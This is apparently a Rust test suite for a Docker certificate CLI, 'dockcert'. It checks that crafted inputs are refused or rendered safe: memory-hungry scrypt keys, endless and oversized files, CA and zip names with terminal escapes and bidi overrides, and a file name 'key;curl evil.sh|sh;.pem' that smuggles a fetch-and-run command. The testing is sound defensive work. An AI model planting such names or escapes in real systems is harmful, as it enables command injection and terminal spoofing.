//! What a hostile reviewer tried, with the real CLI: each is refused or made
//! safe, with the right message and exit status, writing nothing. Every run
//! has a watchdog (a crafted file once ran two minutes); the speed and
//! memory themselves are measured by `cargo xtask bench`, not here.

// Helpers here are test code too: a missing value fails the test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use dockcert_tests::openssl_certs::ec_ca;
use dockcert_tests::{
    dockcert_bin, files_under, new_dir, openssl, require_tool, run, watched as dockcert, Run,
};

/// The same under the umask `mask`.
fn dockcert_with_umask(cwd: &Path, mask: &str, args: &[&str]) -> Run {
    run(Command::new("sh")
        .current_dir(cwd)
        .arg("-c")
        .arg(format!("umask {mask} && exec \"$0\" \"$@\""))
        .arg(dockcert_bin())
        .args(args))
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../crates/dockcert-core/tests/fixtures")
        .join(name)
}

/// Refused with exit status 2, `says` on stderr, and nothing written.
#[track_caller]
fn refused(dir: &Path, args: &[&str], says: &str) -> Run {
    let before = files_under(dir);
    let run = dockcert(dir, args);
    assert_eq!(run.status, 2, "{args:?}\n{}", run.all());
    assert!(
        run.stderr.contains(says),
        "{args:?}: {says:?} not in:\n{}",
        run.stderr
    );
    assert!(!run.all().contains("panicked"));
    assert_eq!(files_under(dir), before, "{args:?}: something was written");
    run
}

/// A CA made by OpenSSL whose name carries terminal escapes, a bell and a
/// bidi override.
fn evil_ca(dir: &Path) -> String {
    let cn = "Evil\u{1b}[31mRED\u{1b}]0;title\u{7}CA\u{202e}";
    ec_ca(dir, "ca", cn, &[]);
    cn.to_owned()
}

/// What a terminal would act on: escape, bell, C1 controls, bidi overrides.
fn acts_on_a_terminal(text: &str) -> bool {
    text.chars().any(|c| {
        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
    })
}

#[test]
fn a_crafted_scrypt_key_is_refused_before_any_work() {
    let dir = new_dir("dockcert-hostile-");
    evil_ca(dir.path());
    fs::copy(
        fixture("hostile-scrypt-key.pem"),
        dir.path().join("hostile-key.pem"),
    )
    .unwrap();
    fs::write(dir.path().join("pass.txt"), "anything at all\n").unwrap();
    let run = refused(
        dir.path(),
        &[
            "issue", "--ca-cert", "ca.pem", "--ca-key", "hostile-key.pem", "--passphrase-file",
            "pass.txt", "--client", "bob", "--out", "out.zip",
        ],
        "dockcert: --ca-key \"hostile-key.pem\": the key is encrypted with scrypt with N=1048576, r=16, p=16, which needs 2048 MiB of memory",
    );
    assert!(
        run.stderr.contains("openssl pkcs8 -topk8"),
        "{}",
        run.stderr
    );
    // OpenSSL refuses the same file for the same reason.
    let openssl = openssl(
        dir.path(),
        &[
            "pkey",
            "-in",
            "hostile-key.pem",
            "-passin",
            "pass:anything at all",
            "-noout",
        ],
    );
    assert!(
        openssl.all().contains("memory limit exceeded"),
        "{}",
        openssl.all()
    );
}

#[test]
fn endless_and_huge_inputs_are_refused_without_reading_them() {
    let dir = new_dir("dockcert-hostile-");
    refused(
        dir.path(),
        &["new", "--server", "docker1.example.com", "--passphrase-file", "/dev/zero", "--out", "b.zip"],
        "dockcert: --passphrase-file \"/dev/zero\": its first line is longer than the 1024 bytes a passphrase may be",
    );
    refused(
        dir.path(),
        &["new", "--config", "/dev/zero", "--no-passphrase", "--out", "b.zip"],
        "dockcert: --config \"/dev/zero\": it is larger than the 16 MiB dockcert reads for a fleet file",
    );
    let huge = dir.path().join("huge.pem");
    fs::File::create(&huge).unwrap().set_len(2 << 30).unwrap();
    refused(
        dir.path(),
        &["issue", "--ca-cert", "huge.pem", "--ca-key", "huge.pem", "--client", "c", "--out", "b.zip"],
        "dockcert: --ca-cert \"huge.pem\": it is larger than the 1024 KiB dockcert reads for a certificate or key",
    );
    // inspect says what it could not read, and that nothing was checked.
    let run = refused(dir.path(), &["inspect", "huge.pem"], "Nothing was checked");
    assert!(
        run.stdout.contains("[not-read] \"huge.pem\": it is 2147483648 bytes, larger than the 1024 KiB dockcert reads for it"),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("All is well"));
}

#[test]
fn a_fleet_host_with_endless_names_is_refused_at_once() {
    let dir = new_dir("dockcert-hostile-");
    let sans: Vec<String> = (0..200_000)
        .map(|i| format!("\"h{i}.example.com\""))
        .collect();
    fs::write(
        dir.path().join("fleet.toml"),
        format!(
            "[[host]]\nname = \"docker1.example.com\"\nsans = [{}]\n",
            sans.join(",")
        ),
    )
    .unwrap();
    refused(
        dir.path(),
        &[
            "new",
            "--config",
            "fleet.toml",
            "--no-passphrase",
            "--out",
            "b.zip",
        ],
        "fleet.toml:2: host[1] \"docker1.example.com\": 200001 names and addresses for one host; at most 256 are allowed",
    );
    let run = dockcert(
        dir.path(),
        &[
            "new",
            "--config",
            "fleet.toml",
            "--no-passphrase",
            "--out",
            "b.zip",
        ],
    );
    assert!(run
        .stderr
        .contains("200001 names and addresses for one host; at most 256 are allowed"));
}

#[test]
fn escapes_from_a_ca_never_reach_the_terminal_or_the_bundle_text() {
    let dir = new_dir("dockcert-hostile-");
    evil_ca(dir.path());
    let issued = dockcert(
        dir.path(),
        &[
            "issue",
            "--ca-cert",
            "ca.pem",
            "--ca-key",
            "ca-key.pem",
            "--client",
            "bob",
            "--out",
            "issued.zip",
        ],
    );
    assert_eq!(issued.status, 0, "{}", issued.all());
    assert!(!acts_on_a_terminal(&issued.all()), "{:?}", issued.all());
    assert!(
        issued
            .stderr
            .contains("Evil\\u{1b}[31mRED\\u{1b}]0;title\\u{7}CA\\u{202e}"),
        "{}",
        issued.stderr
    );
    require_tool("unzip");
    let unzipped = run(Command::new("unzip")
        .current_dir(dir.path())
        .args(["-q", "issued.zip"]));
    assert_eq!(unzipped.status, 0, "{}", unzipped.all());
    let readme = fs::read_to_string(dir.path().join("issued/README.txt")).unwrap();
    assert!(!acts_on_a_terminal(&readme));
    assert!(readme.contains("Evil\\u{1b}[31m"), "{readme}");
    let manifest = fs::read_to_string(dir.path().join("issued/manifest.json")).unwrap();
    assert!(!acts_on_a_terminal(&manifest));
    let json: serde_json::Value = serde_json::from_str(&manifest).unwrap();
    assert_eq!(
        json["ca_name"], "Evil\u{1b}[31mRED\u{1b}]0;title\u{7}CA\u{202e}",
        "the name itself, JSON-escaped"
    );
    for args in [
        &["inspect", "ca.pem"][..],
        &["inspect", "issued.zip"],
        &["inspect", "issued.zip", "--json"],
    ] {
        let run = dockcert(dir.path(), args);
        assert!(!acts_on_a_terminal(&run.all()), "{args:?}: {:?}", run.all());
        assert!(
            run.stdout.contains("Evil\\u{1b}[31m") || run.stdout.contains("Evil\\\\u{1b}[31m"),
            "{}",
            run.stdout
        );
    }
}

#[test]
fn zip_entry_and_file_names_are_shown_safely_and_quoted_in_commands() {
    let dir = new_dir("dockcert-hostile-");
    let made = dockcert(
        dir.path(),
        &[
            "new",
            "--server",
            "docker1.example.com",
            "--no-passphrase",
            "--out",
            "bundle",
        ],
    );
    assert_eq!(made.status, 0, "{}", made.all());
    // A key readable by others, named to run a command if pasted unquoted.
    let evil = dir
        .path()
        .join("bundle/client/client/key;curl evil.sh|sh;.pem");
    fs::rename(dir.path().join("bundle/client/client/key.pem"), &evil).unwrap();
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o644)).unwrap();
    let run = dockcert(dir.path(), &["inspect", "bundle"]);
    assert_eq!(run.status, 1, "{}", run.all());
    assert!(
        run.stdout
            .contains("fix: chmod 0400 'key;curl evil.sh|sh;.pem'"),
        "{}",
        run.stdout
    );
    // A zip whose entry names carry escapes.
    let zip = dir.path().join("evil.zip");
    let made = Command::new("python3")
        .args(["-c", "import sys, zipfile\nz = zipfile.ZipFile(sys.argv[1], 'w')\nz.writestr('bundle/\\x1b]0;owned\\x07ca.pem', 'not a certificate')\nz.close()"])
        .arg(&zip)
        .status()
        .unwrap();
    assert!(made.success());
    let run = dockcert(dir.path(), &["inspect", "evil.zip"]);
    assert!(!acts_on_a_terminal(&run.all()), "{:?}", run.all());
    assert!(
        run.stdout.contains("bundle/\\u{1b}]0;owned\\u{7}ca.pem"),
        "{}",
        run.stdout
    );
}

#[test]
fn names_with_invisible_characters_are_refused() {
    let dir = new_dir("dockcert-hostile-");
    refused(
        dir.path(),
        &["new", "--server", "docker1.example.com", "--ca-name", "Acme\u{202e}AC emcA", "--no-passphrase", "--out", "b.zip"],
        "--ca-name \"Acme\\u{202e}AC emcA\": the CA name must not contain control characters or invisible formatting characters",
    );
}

#[test]
fn folder_output_honours_the_umask_but_keys_and_certificates_keep_theirs() {
    let dir = new_dir("dockcert-hostile-");
    let run = dockcert_with_umask(
        dir.path(),
        "077",
        &[
            "new",
            "--server",
            "docker1.example.com",
            "--client",
            "alice",
            "--no-passphrase",
            "--out",
            "bundle",
        ],
    );
    assert_eq!(run.status, 0, "{}", run.all());
    let mode = |rel: &str| {
        fs::metadata(dir.path().join("bundle").join(rel))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode(""), 0o700, "the folder");
    assert_eq!(mode("server/docker1.example.com"), 0o700);
    assert_eq!(mode("README.txt"), 0o600);
    assert_eq!(mode("server/docker1.example.com/install.sh"), 0o700);
    assert_eq!(mode("server/docker1.example.com/server-key.pem"), 0o400);
    assert_eq!(mode("server/docker1.example.com/server-cert.pem"), 0o444);
    assert_eq!(mode("client/alice/cert.pem"), 0o444);
    assert_eq!(mode("ca/ca-key.pem"), 0o400);
    let run = dockcert_with_umask(
        dir.path(),
        "022",
        &[
            "new",
            "--server",
            "docker1.example.com",
            "--no-passphrase",
            "--out",
            "open",
        ],
    );
    assert_eq!(run.status, 0, "{}", run.all());
    let mode = |rel: &str| {
        fs::metadata(dir.path().join("open").join(rel))
            .unwrap()
            .permissions()
            .mode()
            & 0o7777
    };
    assert_eq!(mode(""), 0o755);
    assert_eq!(mode("README.txt"), 0o644);
    assert_eq!(mode("ca/ca-key.pem"), 0o400);
}
